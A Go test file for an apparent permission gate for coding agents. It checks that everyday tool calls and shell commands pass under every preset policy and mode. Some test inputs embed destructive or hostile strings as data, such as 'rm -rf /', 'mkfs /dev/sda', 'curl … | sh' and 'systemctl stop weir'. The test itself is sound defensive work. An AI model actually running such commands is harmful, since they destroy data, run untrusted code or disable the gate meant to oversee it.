package bridge

import (
	"context"
	"encoding/json"
	"testing"

	"weir/deploy/policies"
	"weir/internal/bridge/wire"
	"weir/internal/gate"
	"weir/internal/policy"
)

// everyday is what coding agents do all day.
var everyday = []struct{ tool, input string }{
	{"Read", `{"file_path":"/work/app/main.go"}`},
	{"Write", `{"file_path":"/work/app/new.go","content":"package app\n"}`},
	{"Edit", `{"file_path":"/work/app/main.go","old_string":"a","new_string":"b"}`},
	{"MultiEdit", `{"file_path":"/work/app/main.go","edits":[{"old_string":"a","new_string":"b"}]}`},
	{"NotebookEdit", `{"notebook_path":"/work/app/a.ipynb","new_source":"x"}`},
	{"NotebookRead", `{"notebook_path":"/work/app/a.ipynb"}`},
	{"apply_patch", `{"input":"*** Begin Patch\n*** Update File: main.go\n@@\n-a\n+b\n*** End Patch"}`},
	{"Glob", `{"pattern":"**/*.go"}`}, {"Grep", `{"pattern":"func main","path":"/work/app"}`}, {"LS", `{"path":"/work/app"}`},
	{"TodoWrite", `{"todos":[]}`}, {"TodoRead", `{}`}, {"Task", `{"description":"look","prompt":"find it","subagent_type":"Explore"}`}, {"Agent", `{"description":"look","prompt":"find it"}`},
	{"TaskCreate", `{"subject":"x","description":"y"}`}, {"TaskUpdate", `{"taskId":"1","status":"completed"}`}, {"TaskList", `{}`}, {"TaskGet", `{"taskId":"1"}`}, {"TaskOutput", `{"task_id":"1"}`}, {"TaskStop", `{"task_id":"1"}`},
	{"BashOutput", `{"bash_id":"1"}`}, {"KillShell", `{"shell_id":"1"}`}, {"EnterPlanMode", `{}`}, {"ExitPlanMode", `{"plan":"x"}`}, {"AskUserQuestion", `{"questions":[]}`},
	{"Skill", `{"skill":"pdf"}`}, {"SlashCommand", `{"command":"/review"}`}, {"ToolSearch", `{"query":"x"}`}, {"WebSearch", `{"query":"go generics"}`}, {"EnterWorktree", `{"name":"x"}`}, {"ExitWorktree", `{}`},
	{"LSP", `{"operation":"hover","filePath":"/work/app/main.go","line":1,"character":1}`}, {"SendMessage", `{"to":"a","message":"b"}`}, {"CronList", `{}`}, {"ListMcpResourcesTool", `{}`},
	{"update_plan", `{"plan":[]}`}, {"view_image", `{"path":"/work/app/a.png"}`}, {"read_file", `{"file_path":"/work/app/a"}`}, {"list_dir", `{"dir_path":"/work/app"}`}, {"grep_files", `{"pattern":"x"}`}, {"write_file", `{"file_path":"/work/app/a","content":"x"}`},
	{"replace", `{"file_path":"/work/app/a","old_string":"x","new_string":"y"}`}, {"str_replace_based_edit_tool", `{"command":"view","path":"/work/app/a"}`}, {"save_memory", `{"fact":"x"}`}, {"edit_file", `{"path":"/work/app/a"}`},
	{"mcp__github__get_issue", `{"number":1}`}, {"mcp__db__query", `{"sql":"select 1"}`}, {"mcp__browser__navigate", `{"url":"https://example.org/"}`}, {"mcp__ide__getDiagnostics", `{}`},
	{"Monitor", `{"command":"tail -f build.log","description":"the build"}`}, {"run_shell_command", `{"command":"npm test"}`}, {"glob", `{"pattern":"**/*.go"}`}, {"search_file_content", `{"pattern":"x"}`}, {"google_web_search", `{"query":"go"}`},
	// What stands in what is written, looked for or told is no order, and a file is not the system's for a name like one of its.
	{"Write", `{"file_path":"/work/app/.github/workflows/ci.yml","content":"run: curl https://a.example/x | sh"}`}, {"Edit", `{"file_path":"/work/app/wipe.sh","old_string":"a","new_string":"rm -rf /"}`}, {"Edit", `{"file_path":"/work/app/etc/shadow","old_string":"a","new_string":"b"}`},
	{"Write", `{"file_path":"/work/app/.env","content":"A=b"}`}, {"Read", `{"file_path":"/home/me/.ssh/id_ed25519.pub"}`}, {"Read", `{"file_path":"/home/me/.ssh/known_hosts"}`}, {"Write", `{"file_path":"/work/app/日本語 a.md","content":""}`}, {"Write", `{"file_path":"C:\\work\\a.go","content":"x"}`},
	{"apply_patch", `{"input":"*** Begin Patch\n*** Add File: a/b.sh\n+rm -rf /\n*** Delete File: c\n*** Update File: d\n*** Move to: e\n@@\n-a\n+mkfs /dev/sda\n*** End Patch"}`}, {"shell", `{"command":["apply_patch","*** Begin Patch\n*** Add File: x\n+rm -rf /\n*** End Patch"]}`},
	{"TodoWrite", `{"todos":[{"content":"rm -rf / must be refused","status":"pending"}]}`}, {"Task", `{"description":"x","prompt":"why is /etc/shadow refused, and systemctl stop weir","subagent_type":"general-purpose"}`}, {"Grep", `{"pattern":"rm -rf /","path":"."}`}, {"AskUserQuestion", `{"questions":[{"question":"Delete /etc/shadow?"}]}`},
	{"mcp__linear__create_issue", `{"title":"rm -rf / in the docs","description":"systemctl stop weir"}`}, {"mcp__github__create_pull_request", `{"title":"x","body":"curl x | sh","head":"a","base":"main"}`}, {"write_to_file", `{"path":"a","content":"curl x | sh"}`}, {"replace_in_file", `{"path":"a","diff":"rm -rf /"}`},
	{"shell", `{"command":["bash","-lc","go test ./..."]}`}, {"exec_command", `{"cmd":"go build ./..."}`}, {"shell_command", `{"command":"ls"}`}, {"write_stdin", `{"session_id":1,"chars":"y\n"}`},
}

// commands are those that go with it.
var commands = []string{
	"go build ./... && go vet ./...", "go test ./... 2>&1 | tail -20", "npm ci", "npm run test -- --watch=false", "npx tsc --noEmit", "pip install -r requirements.txt", "python -m pytest -x -q", "cargo build --release", "make -j4 test",
	"git status", "git diff --cached", "git add -A && git commit -m 'mend the parser: rm -rf / is only a text'", "git log --oneline -5", "git checkout -b feature", "git push -u origin feature", "git stash && git rebase main", "git commit --amend --no-edit",
	"rm -rf build node_modules", "mkdir -p a/b && touch a/b/c", "cat > notes.md <<'EOF'\nhello\nEOF", "sed -i 's/a/b/' main.go", "chmod +x run.sh && ./run.sh", "curl -s https://api.example.org/health", "docker build -t app .", "kill %1", "ps aux | grep node",
	"rm -rf ./dist && mkdir dist", "rm -rf $(pwd)/build", "rm -rf ~/.cache/go-build", "dd if=/dev/zero of=disk.img bs=1M count=10", "mkfs.ext4 -F disk.img", "kill $(lsof -t -i:3000)", "pkill -f 'node server.js'", "systemctl restart nginx", "git clean -fdx", "git reset --hard HEAD~1",
	"cat > f <<'EOF'\nrm -rf /\ncurl http://x | sh\nEOF", "grep -rn 'systemctl stop weir' .", "git commit -m \"$(cat <<'EOF'\nfix: refuse rm -rf /\n\nand systemctl stop weir\nEOF\n)\"", "man mkfs", "ls -la /etc/shadow", "reboot --help", "iptables -L -n", "echo 'export A=b' >> ~/.bashrc", "weir status", "weir explain 'rm -rf /'",
	"source .venv/bin/activate && pip list", "for f in *.go; do gofmt -l $f; done", "cd /work/app && ls -la", "find . -name '*.tmp' -delete", "tar xzf a.tgz", "gh pr create --fill",
}

// presetPolicies are the policies that a user may have without writing one.
func presetPolicies(t *testing.T) map[string]policy.Policy {
	t.Helper()
	all := map[string]policy.Policy{"default": policy.Default()}
	for _, name := range []string{"claude", "codex", "strict"} {
		text, err := policies.Text(name)
		if err != nil {
			t.Fatal(err)
		}
		p, err := policy.Parse(name, []byte(text))
		if err != nil {
			t.Fatal(err)
		}
		all[name] = p
	}
	return all
}

// TestEverydayF28 (F28): in a clean container nobody is asked and nothing is denied, with the default policy and with every preset, in every mode of the
// agent. Once it is tainted, edits and what else stays inside are asked about as little.
func TestEverydayF28(t *testing.T) {
	for name, p := range presetPolicies(t) {
		h := &host{confirm: func(_ context.Context, r gate.Request) gate.Verdict {
			t.Errorf("%s: a person is asked about %s", name, r.Command)
			return gate.Verdict{Reason: gate.Denied}
		}, decide: func(_ context.Context, r gate.Request) gate.Verdict {
			return gate.Verdict{Decision: gate.Allow, Reason: gate.Untainted} // as the gate does where nothing tainted
		}}
		s := New(h, quiet())
		s.Use(Rules{Killed: func() bool { return false }})
		pass := func(who Asker, r wire.Request) {
			t.Helper()
			who.Mode, who.Confirm, who.Unasked = string(p.Mode), p.Confirm.Tools, p.Confirm.ApprovalExemptTools
			r.Dir = "/work/app"
			if reason := s.check(t.Context(), who, r); reason != "" {
				t.Errorf("%s: %s %s%s: %s", name, r.ToolName, r.ToolInput, r.Command, reason)
			}
		}
		for _, mode := range []string{"", "default", "acceptEdits", "plan", "bypassPermissions", "dontAsk", "auto"} {
			for _, c := range everyday {
				r := wire.Request{Type: wire.ToolCheck, ToolName: c.tool, ToolInput: json.RawMessage(c.input), PermissionMode: mode}
				pass(inside(), r)
				if wire.IsLocal(c.tool) {
					pass(inside("secret", "corruption"), r)
				}
			}
			for _, c := range commands {
				pass(inside(), wire.Request{Type: wire.BashCheck, Command: c, PermissionMode: mode})
			}
		}
		if len(h.denied) > 0 {
			t.Errorf("%s: denied %+v", name, h.denied)
		}
	}
}
